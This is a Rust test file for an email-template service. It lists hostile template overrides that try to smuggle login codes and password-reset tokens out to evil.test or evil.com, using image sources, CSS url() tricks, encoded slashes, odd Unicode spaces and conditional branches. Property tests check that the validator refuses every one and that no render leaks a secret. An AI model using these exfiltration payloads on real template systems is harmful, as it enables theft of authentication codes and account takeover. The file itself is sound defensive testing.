//! Hostile template overrides: the bypasses a security review saved and had delivered, and a
//! property test that renders many random codes and links through every hostile override and
//! checks that neither can leave the message except as itself.

use proptest::prelude::*;
use serde_json::json;

use crate::{Branding, Message, TemplateOverride, Templates};

const LOGO: &str = "https://cdn.acme.test/logo.png";

fn branding() -> Branding {
    Branding {
        logo_url: Some(LOGO.to_owned()),
        ..Branding::platform_default()
    }
}

fn html(src: &str) -> TemplateOverride {
    TemplateOverride {
        html: Some(src.to_owned()),
        ..TemplateOverride::default()
    }
}

fn text(src: &str) -> TemplateOverride {
    TemplateOverride {
        text: Some(src.to_owned()),
        ..TemplateOverride::default()
    }
}

/// Overrides that try to carry the code (or the link) away: the review's three bypasses and
/// their relatives.
fn hostile() -> Vec<(Message, TemplateOverride)> {
    let code = Message::LoginCode;
    let link = Message::PasswordReset;
    vec![
        // The review's three: a branch the sample never takes, no slashes, entity slashes.
        (
            code,
            html(
                r#"{% if code != "482915" %}<img src="https://evil.test/?c={{ code }}">{% endif %}{{ code }}"#,
            ),
        ),
        (
            code,
            html(r#"<img src="https:evil.test/?c={{ code }}">{{ code }}"#),
        ),
        (
            code,
            html(r#"<img src="https:&#x2F;&#x2F;evil.test/?c={{ code }}">{{ code }}"#),
        ),
        // Relatives.
        (
            code,
            html(r#"<a href="https://evil.test/{{ code }}">x</a> {{ code }}"#),
        ),
        (
            code,
            html(r#"<div style="background:url(https://evil.test/{{ code }})">{{ code }}</div>"#),
        ),
        (
            code,
            html(r#"<div style="background-image:u\72l(//evil.test/{{ code }})">{{ code }}</div>"#),
        ),
        (
            code,
            html(r#"<style>p{background:url(https://evil.test/{{ code }})}</style>{{ code }}"#),
        ),
        (
            code,
            html(
                r#"<table background="https://evil.test/{{ code }}"><tr><td>{{ code }}</td></tr></table>"#,
            ),
        ),
        (
            code,
            html(r#"<img srcset="https://evil.test/{{ code }} 1x">{{ code }}"#),
        ),
        (
            code,
            html(r#"<svg><image href="https://evil.test/{{ code }}"/></svg>{{ code }}"#),
        ),
        (
            code,
            html(r#"<p>https://evil.test/?c={{ code }}</p>{{ code }}"#),
        ),
        (code, html(r#"<p>{{ code }}.evil.test</p>{{ code }}"#)),
        (code, html(r#"<p>evil.test:{{ code }}</p>"#)),
        (
            code,
            html(r#"<img alt="{{ code }}" src="https://evil.test/x">{{ code }}"#),
        ),
        (
            code,
            html(
                r#"{{ code|replace("1", "one") }}<img src="https://evil.test/{{ code|reverse }}">"#,
            ),
        ),
        (
            code,
            html(r#"<a href="{{ branding.logo_url }}?c={{ code }}">x</a>{{ code }}"#),
        ),
        (
            code,
            text(r#"Your code: {{ code }} https://evil.test/?c={{ code }}"#),
        ),
        (
            code,
            text(r#"Your code: {{ code }} https:evil.test/{{ code }}"#),
        ),
        (code, text(r#"Your code: {{ code }}.evil.test"#)),
        (
            code,
            text(r#"{% for c in code %}{{ c }}{% endfor %}.evil.test {{ code }}"#),
        ),
        (
            link,
            html(
                r#"<img src="https://evil.test/?u={{ link|urlencode }}"><a href="{{ link }}">{{ link }}</a>"#,
            ),
        ),
        (
            link,
            html(r#"<a href="https://evil.test/?u={{ link }}">{{ link }}</a>"#),
        ),
        (
            link,
            html(r#"<a href="{{ link }}&amp;x=1">go</a> {{ link }}"#),
        ),
        (
            link,
            text(r#"Open https://evil.test/?u={{ link }} or {{ link }}"#),
        ),
        // From the second review: odd spaces, inline tags, the link as an image.
        (
            code,
            text("Your code: {{ code }}\nevil.com/c\u{205F}{{ code }}"),
        ),
        (
            code,
            html("<p>{{ code }}</p><p>evil.com/c\u{1680}{{ code }}</p>"),
        ),
        (
            code,
            html(r#"<p>{{ code }}</p><p>evil.com/c<b>{{ code }}</b></p>"#),
        ),
        (
            code,
            html(r#"<p>{{ code }}</p><p>evil.com/c<span>{{ code }}</span></p>"#),
        ),
        (
            link,
            html(r#"<img src="{{ link }}"><a href="{{ link }}">{{ link }}</a>"#),
        ),
    ]
}

/// Overrides that may be saved because they can learn nothing: the templates see a stand-in,
/// so a branch on the code always goes the same way.
fn harmless() -> Vec<(Message, TemplateOverride)> {
    vec![(
        Message::LoginCode,
        html(r#"{% if code[0] == "4" %}<img src="{{ branding.logo_url }}">{% endif %}{{ code }}"#),
    )]
}

#[test]
fn a_branch_on_the_code_learns_nothing() {
    let t = Templates::bundled();
    for (message, over) in harmless() {
        t.check_override(message, &over).expect("harmless");
        let renders: Vec<String> = ["400000", "500000"]
            .iter()
            .map(|code| {
                t.render_with(
                    message,
                    &branding(),
                    "a@b.test",
                    &json!({ "code": code, "expires_minutes": 10 }),
                    Some(&over),
                )
                .expect("renders")
                .html
                .replace(code, "CODE")
            })
            .collect();
        assert_eq!(
            renders[0], renders[1],
            "the output does not depend on the code"
        );
    }
}

#[test]
fn the_reviews_bypasses_are_refused_when_saved() {
    let t = Templates::bundled();
    for (message, over) in hostile() {
        let refused = t.check_override(message, &over);
        assert!(refused.is_err(), "saved: {over:?}");
    }
}

/// Whether `secret` appears in `out` only where nothing can carry it away: never right after
/// or before a character a URL could continue with.
fn stands_alone(out: &str, secret: &str) -> bool {
    let urlish = |c: char| c.is_ascii_alphanumeric() || "/=?&:.#@%+-_~'$*,;!(".contains(c);
    let mut from = 0;
    while let Some(pos) = out[from..].find(secret) {
        let start = from + pos;
        let end = start + secret.len();
        from = end;
        let before = out[..start].chars().next_back();
        let after = out[end..].chars().next();
        let rest = &out[end..];
        // Sentence punctuation then a boundary is fine after it.
        let after_ok = match after {
            None => true,
            Some(c) if c.is_whitespace() || c == '<' || c == '"' => true,
            Some(c) if ".,;:!?)".contains(c) => rest[c.len_utf8()..]
                .chars()
                .next()
                .is_none_or(|d| d.is_whitespace() || d == '<' || ".,;:!?)".contains(d)),
            _ => false,
        };
        let before_ok = match before {
            None => true,
            Some(c) if c.is_whitespace() || c == '>' || c == '"' || c == '(' => true,
            Some(c) => !urlish(c),
        };
        if !(before_ok && after_ok) {
            return false;
        }
    }
    true
}

/// Every `src`, `href` and `url(` target in `html`.
fn urls_in(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let lower = html.to_ascii_lowercase();
    for needle in ["src=\"", "href=\"", "background=\"", "url("] {
        let mut from = 0;
        while let Some(pos) = lower[from..].find(needle) {
            let start = from + pos + needle.len();
            let end = lower[start..]
                .find(['"', ')'])
                .map_or(lower.len(), |e| start + e);
            found.push(html[start..end].replace("&amp;", "&"));
            from = end;
        }
    }
    found
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn no_render_of_a_hostile_override_carries_a_secret_away(
        code in "[0-9]{6}",
        token in "[A-Za-z0-9_-]{20,43}",
        which in any::<usize>(),
    ) {
        let mut cases = hostile();
        cases.extend(harmless());
        let (message, over) = &cases[which % cases.len()];
        let link = format!("https://auth.acme.test/reset-password?tenant=acme&token={token}");
        let vars = match message {
            Message::LoginCode => json!({ "code": code, "expires_minutes": 10 }),
            _ => json!({ "link": link, "expires_minutes": 30 }),
        };
        // Rendered as the sender would, whether or not the override passed its check.
        match Templates::bundled().render_with(*message, &branding(), "a@b.test", &vars, Some(over)) {
            // Refused: the sender falls back to the bundled templates.
            Err(_) => {}
            Ok(r) => {
                for url in urls_in(&r.html) {
                    prop_assert!(url == link || url == LOGO, "{url} in {}", r.html);
                }
                if *message == Message::LoginCode {
                    for part in [&r.subject, &r.text, &r.html] {
                        prop_assert!(stands_alone(part, &code), "{part}");
                    }
                } else {
                    let escaped = link.replace('&', "&amp;");
                    for part in [&r.subject, &r.text, &r.html] {
                        // The token only ever travels inside the whole link.
                        let rest = part.replace(&escaped, "").replace(&link, "");
                        prop_assert!(!rest.contains(&token), "{part}");
                    }
                    prop_assert!(stands_alone(&r.text, &link), "{}", r.text);
                    prop_assert!(stands_alone(&r.html, &escaped), "{}", r.html);
                }
            }
        }
    }
}

#[test]
fn a_friendly_override_still_renders_its_code_and_link() {
    let t = Templates::bundled();
    let over = TemplateOverride {
        subject: Some("Your {{ branding.name }} code".into()),
        text: Some("Hello,\n\nyour code is {{ code }}.\n\nSee you soon!".into()),
        html: Some(
            r#"{% extends "_layouts/base.html" %}{% block content %}<p style="font-size:20px;color:#111827">Your code: <strong>{{ code }}</strong></p>{% endblock %}"#
                .into(),
        ),
    };
    t.check_override(Message::LoginCode, &over)
        .expect("a friendly override is saved");
    let r = t
        .render_with(
            Message::LoginCode,
            &branding(),
            "a@b.test",
            &json!({ "code": "004217", "expires_minutes": 10 }),
            Some(&over),
        )
        .expect("renders");
    assert!(r.text.contains("your code is 004217."), "{}", r.text);
    assert!(r.html.contains("<strong>004217</strong>"), "{}", r.html);
    assert!(r.html.contains(LOGO), "the logo stays: {}", r.html);
    let reset = html(
        r#"<p>Choose a new password: <a href="{{ link }}" target="_blank">{{ link }}</a></p>"#,
    );
    t.check_override(Message::PasswordReset, &reset)
        .expect("saved");
    let link = "https://auth.acme.test/reset-password?tenant=acme&token=abc";
    let r = t
        .render_with(
            Message::PasswordReset,
            &branding(),
            "a@b.test",
            &json!({ "link": link, "expires_minutes": 30 }),
            Some(&reset),
        )
        .expect("renders");
    assert!(
        r.html
            .contains("href=\"https://auth.acme.test/reset-password?tenant=acme&amp;token=abc\""),
        "{}",
        r.html
    );
}
